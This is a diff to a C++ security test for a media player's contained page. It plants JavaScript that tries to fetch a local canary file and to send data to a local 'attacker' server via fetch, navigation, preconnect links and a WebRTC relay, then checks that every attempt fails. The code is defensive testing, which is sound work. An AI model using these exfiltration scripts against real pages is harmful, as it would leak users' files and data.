@@ -85,11 +85,14 @@ TEST_F(ContainedPageTest, PlaylistNamingALocalFileReadsNothingAndTellsNothing) {
     }
 }
 
-// Scripts a page beside the player pages might carry; each records what it
-// managed in window.got. None may read the canary or any address the gateway
-// did not hand out, and the attacker's server must see no connection at all.
+// Scripts a page beside the player pages might carry inline, as such pages
+// run their own; each records what it managed in window.got. None may read
+// the canary or any address the gateway did not hand out, and the attacker's
+// server must see no connection at all.
 TEST_F(ContainedPageTest, PlantedPageReadsNothingAndSendsNothingOut) {
     const std::string attack = attacker_url("collect");
+    const std::string relay =
+        "turn:127.0.0.1:" + std::to_string(QUrl(QString::fromStdString(attack)).port()) + "?transport=tcp";
     const std::vector<std::pair<const char*, std::string>> scripts = {
         {"fetch elsewhere", "fetch('" + attack + "?f').then(r => r.text()).then(t => got += t, e => got += 'x');"},
         {"fetch file", "fetch('" + canary_url() + "').then(r => r.text()).then(t => got += t, e => got += 'x');"},
@@ -120,12 +123,17 @@ TEST_F(ContainedPageTest, PlantedPageReadsNothingAndSendsNothingOut) {
          "'0;url=" +
              canary_url() + "'; document.head.appendChild(m);"},
         {"navigate elsewhere", "location.href = '" + attack + "?nav';"},
+        {"preconnect", "var l = document.createElement('link'); l.rel = 'preconnect'; l.href = '" + attack +
+                           "'; document.head.appendChild(l);"},
+        // A peer connection whose relay server is the attacker's would connect out at once.
+        {"webrtc relay", "var p = new RTCPeerConnection({iceServers: [{urls: '" + relay +
+                             "', username: 'u', credential: 'c'}]}); p.createDataChannel('x');"
+                             " p.createOffer().then(o => p.setLocalDescription(o));"},
     };
     for (const auto& [what, script] : scripts) {
         SCOPED_TRACE(what);
-        write(dir.path() / "bg" / "planted.js", "var got = '';\n" + script);
         write(dir.path() / "bg" / "planted.htm",
-              "<html><head><script src=\"planted.js\"></script></head><body></body></html>");
+              "<html><head></head><body><script>var got = '';\n" + script + "</script></body></html>");
         browser.navigate((dir.path() / "bg" / "planted.htm").string() + "?kwelo_iid=media/demo.webm");
         ASSERT_TRUE(wait_until([&] { return page_value(QStringLiteral("typeof got")).toString() == "string"; }, 20000));
         QTest::qWait(1500);  // what the script set off has long arrived by now
@@ -134,8 +142,8 @@ TEST_F(ContainedPageTest, PlantedPageReadsNothingAndSendsNothingOut) {
         EXPECT_FALSE(got.contains(QStringLiteral("root:"))) << got.toStdString();
         EXPECT_FALSE(got.contains(QStringLiteral("200"))) << got.toStdString();
         EXPECT_TRUE(browser.origin().owns(view->url())) << view->url().toString().toStdString();
+        EXPECT_EQ(attacker.connections(), 0) << attacker.requests().join(' ').toStdString();
     }
-    EXPECT_EQ(attacker.connections(), 0) << attacker.requests().join(' ').toStdString();
 }
 
 }  // namespace
